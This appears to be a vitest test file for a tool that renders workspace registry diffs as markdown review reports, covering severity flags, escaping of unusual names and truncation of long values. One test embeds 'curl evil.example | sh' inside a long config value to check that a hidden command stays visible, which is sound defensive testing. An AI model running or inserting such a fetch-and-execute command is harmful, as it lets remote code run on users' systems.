import { abridge } from "../../registry/model/text.ts";
import { lexer, type Tokens } from "marked";
import { expect, test } from "vitest";
import { report as checkWords } from "../../strings/check.ts";
import { listDiff as words } from "../../strings/tools.ts";
import type { ListDiff, WorkspaceDiff } from "./list-diff.ts";
import { diffMarkdown } from "./report-markdown.ts";

const diff = (change: Partial<ListDiff> = {}): string =>
  diffMarkdown({
    counts: [{ schema: "1.0", before: 2, after: 2 }],
    identity: [],
    added: [],
    removed: [],
    moved: [],
    changed: [],
    aside: [],
    findings: [],
    gate: { failOn: null, isBroken: false, isLowered: false },
    ...change,
  });
const workspace = (change: Partial<WorkspaceDiff> = {}): WorkspaceDiff => ({
  folder: "Editor",
  name: "Editor",
  items: [],
  values: [{ key: "cores", before: "1", after: "2" }],
  flagsAdded: [],
  flagsRemoved: [],
  severity: { before: null, after: null },
  filesOnly: false,
  ...change,
});
const flag = { flag: "flag_user", property: "user" } as unknown as WorkspaceDiff["flagsAdded"][number];
const head = [`## ${words.title}`, "", `* \`1.0/list.json\`: ${words.sameCount(2)}`, ""];
const table = [`### ${words.review}`, "", `| ${words.columns.join(" | ")} |`, "| --- | --- | --- |"];
const changed = [
  `### ${words.changed(1)}`,
  "",
  "#### `Editor`",
  "",
  "```diff",
  "- cores: 1",
  "+ cores: 2",
  "```",
];

test("says that nothing changes", () => expect(diff()).toBe([...head, words.nothing, ""].join("\n")));

test("says how many workspaces a list had and has", () =>
  expect(diff({ counts: [{ schema: "1.1", before: 2, after: 3 }] })).toContain(
    `* \`1.1/list.json\`: ${words.counts({ before: 2, after: 3 })}\n`,
  ));

test("shows the registry, what is new, changed and gone, in this order", () =>
  expect(
    diff({
      identity: [{ key: "name", before: undefined, after: '"B"' }],
      added: [
        workspace({ folder: "New", name: "New", values: [{ key: "a", before: undefined, after: "1" }] }),
      ],
      changed: [workspace()],
      removed: [workspace({ folder: "Old", name: "Old" })],
    }),
  ).toBe(
    [
      ...head,
      `### ${words.registry}`,
      "",
      "```diff",
      '+ name: "B"',
      "```",
      "",
      `### ${words.added(1)}`,
      "",
      "#### `New`",
      "",
      "```diff",
      "+ a: 1",
      "```",
      "",
      ...changed,
      "",
      `### ${words.removed(1)}`,
      "",
      "* `Old`",
      "",
      "",
    ].join("\n"),
  ));

test.each([
  ["a flag is new", { flagsAdded: [flag] }, "`flag_user user`", "—"],
  ["two flags are new", { flagsAdded: [flag, flag] }, "`flag_user user` `flag_user user`", "—"],
  [
    "the severity rises",
    { severity: { before: "low", after: "high" } as const },
    "—",
    `${checkWords.severities.low} → **${checkWords.severities.high}**`,
  ],
  [
    "there is a severity for the first time",
    { severity: { before: null, after: "info" } as const },
    "—",
    `${words.none} → **${checkWords.severities.info}**`,
  ],
  [
    "a flag is new and the severity stays",
    { flagsAdded: [flag], severity: { before: "high", after: "high" } as const },
    "`flag_user user`",
    checkWords.severities.high,
  ],
  [
    "a flag is new and the severity goes",
    { flagsAdded: [flag], severity: { before: "high", after: null } as const },
    "`flag_user user`",
    `${checkWords.severities.high} → **${words.none}**`,
  ],
])("asks for a look when %s", (_, change, flags, severity) => {
  const expected = [
    ...head,
    ...table,
    `| \`Editor\` | ${flags} | ${severity} |`,
    "",
    ...changed,
    "",
    "",
  ].join("\n");
  expect(diff({ changed: [workspace(change)] })).toBe(expected);
});

test.each([
  ["low", "low"],
  ["high", "low"],
  ["critical", null],
  [null, null],
] as const)("asks for no look when the severity goes from %s to %s", (before, after) =>
  expect(diff({ changed: [workspace({ severity: { before, after } })] })).toBe(
    [...head, ...changed, "", ""].join("\n"),
  ),
);

test("asks for a look at each step of severity", () => {
  const steps = [null, "info", "low", "medium", "high", "critical"] as const;
  for (const [i, after] of steps.entries())
    if (i > 0)
      expect(diff({ added: [workspace({ severity: { before: steps[i - 1]!, after } })] })).toContain(
        words.review,
      );
});

test("says which flags are gone, and what changed beside workspace.json", () => {
  expect(diff({ changed: [workspace({ flagsRemoved: [flag] })] })).toBe(
    [...head, ...changed, "", words.unflagged("`flag_user user`"), "", ""].join("\n"),
  );
  expect(diff({ changed: [workspace({ filesOnly: true })] })).toBe(
    [...head, `### ${words.changed(1)}`, "", `* \`Editor\`: ${words.filesOnly}`, "", ""].join("\n"),
  );
});

test.each([
  ["another folder", { folder: "F" }, "`Editor` (`F`)"],
  ["a bar", { name: "a|b", folder: "a|b" }, "`a|b`"],
  ["backticks", { name: "a``b", folder: "a``b" }, "``` a``b ```"],
  ["line ends", { name: "a\r\n# b", folder: "a\r\n# b" }, "`a # b`"],
  ["no end", { name: "x".repeat(300), folder: "x".repeat(300) }, `\`${abridge("x".repeat(300), 200)}\``],
])("keeps a name with %s in its place", (_, change, title) =>
  expect(diff({ removed: [workspace(change)] })).toContain(`\n* ${title}\n`),
);

test.each([
  ["a|b", "`a\\u007cb`"],
  ["a\\|b", "`a\\\\u007cb`"],
  ["a\\\\|b", "`a\\\\\\u007cb`"],
  ["a\\", "`a\\`"],
  ["`a|b`", "`` `a\\u007cb` ``"],
  ["a`|`b", "`` a`\\u007c`b ``"],
  ["a\r\n| b | c", "`a \\u007c b \\u007c c`"],
  ["<td>a&#124;b", "`<td>a&#124;b`"],
])("keeps the name %j in its cell", (name, shown) => {
  const change = workspace({ name, folder: name, flagsAdded: [{ ...flag, property: name } as typeof flag] });
  const text = diff({ added: [change] });
  const [, row] = /\n(\| .*)\n\n#/.exec(text.slice(text.indexOf("| --- |")))!;
  expect(row).toBe(`| ${shown} | ${shown.replace(/^(`+ ?)/, "$1flag_user ")} | — |`);
  const found = lexer(text).find(({ type }) => type === "table") as Tokens.Table;
  expect(found.rows).toHaveLength(1);
  expect(found.rows[0]!.map(({ tokens }) => tokens.map(({ type }) => type))).toEqual([
    ["codespan"],
    ["codespan"],
    ["text"],
  ]);
});

test("tells what a change means, in the words of the change history", () => {
  const items: WorkspaceDiff["items"] = [
    { type: "gained", name: "user-root", severity: "high", path: "user", before: "", after: "`root`" },
    { type: "icon", name: "", before: "", after: "" },
  ];
  const sentences = ["`` now “Session runs as root” (user: `root`) ``", "`another icon`"];
  expect(diff({ changed: [workspace({ items })] })).toContain(
    `#### \`Editor\`\n\n* ${sentences[0]}\n* ${sentences[1]}\n\n\`\`\`diff\n`,
  );
  expect(diff({ changed: [workspace({ items, filesOnly: true })] })).toContain(
    `* \`Editor\`: ${sentences.join(", ")}\n`,
  );
});

test("puts a longer fence around a value that has one, and cuts a long line", () => {
  const values = [{ key: "notes", before: "````", after: "x".repeat(3000) }];
  const text = diff({ changed: [workspace({ values })] });
  expect(text).toContain(
    `\n\`\`\`\`\`diff\n- notes: \`\`\`\`\n+ notes: ${abridge("x".repeat(3000), 2000)}\n\`\`\`\`\`\n\n${words.abridged({ keys: "`notes`", file: "`Editor/workspace.json`" })}\n`,
  );
});

test("shows 900,000 bytes and says that more was left out", () => {
  const values = Array.from({ length: 600 }, (_, i) => ({
    key: String(i),
    before: "é".repeat(1000),
    after: undefined,
  }));
  const text = diff({ changed: [workspace({ values })] });
  expect(Buffer.byteLength(text)).toBeGreaterThan(898_000);
  expect(Buffer.byteLength(text)).toBeLessThan(900_200);
  // The open block is closed before the last sentence.
  expect(text.endsWith(`é\n\`\`\`\n\n${words.cut}\n`)).toBe(true);
});

test("shows long settings whole, and says of longer ones where to read them", () => {
  const cmd = (length: number): string =>
    `{"go":{"cmd":"${"a".repeat(length)}; curl evil.example | sh; ${"z".repeat(length)}"}}`;
  const text = diff({
    changed: [workspace({ values: [{ key: "exec_config", before: "{}", after: cmd(20_000) }] })],
  });
  expect(text).toContain(`\n- exec_config: {}\n+ exec_config: ${cmd(20_000)}\n\`\`\`\n`);
  expect(text).not.toContain("`exec_config`");
  const values = [
    { key: "exec_config", before: undefined, after: cmd(30_000) },
    { key: "run_config", before: cmd(30_000), after: "{}" },
  ];
  const long = diff({ changed: [workspace({ values })] });
  const more = { keys: "`exec_config`, `run_config`", file: "`Editor/workspace.json`" };
  expect(long).toContain(`\n+ exec_config: ${abridge(cmd(30_000), 50_000)}\n`);
  expect(long).toContain(`\n\`\`\`\n\n${words.abridged(more)}\n`);
});

test("keeps a key in its line", () =>
  expect(diff({ identity: [{ key: "a\n- user", before: "1", after: "2" }] })).toContain(
    "\n- a\\u000a- user: 1\n+ a\\u000a- user: 2\n",
  ));

test("a difference in the middle of long values is seen", () => {
  const value = (middle: string): string => `"${"a".repeat(5000)}${middle}${"z".repeat(5000)}"`;
  const change = { key: "notes", before: value("harmless"), after: value("privileged") };
  const changed = [
    {
      folder: "Editor",
      name: "Editor",
      items: [],
      values: [change],
      flagsAdded: [],
      flagsRemoved: [],
      severity: { before: null, after: null },
      filesOnly: false,
    },
  ];
  const text = diff({ changed });
  const lines = text.split("\n").filter((line) => /^[-+] /.test(line));
  expect(lines).toEqual([
    expect.stringContaining(`${"a".repeat(100)}harmless${"z".repeat(100)}`),
    expect.stringContaining(`${"a".repeat(100)}privileged${"z".repeat(100)}`),
  ]);
  expect(lines[0]).toContain("4901 characters as before … ");
  expect(lines[0]).toMatch(/ … \d+ characters left out … z+"$/);
});
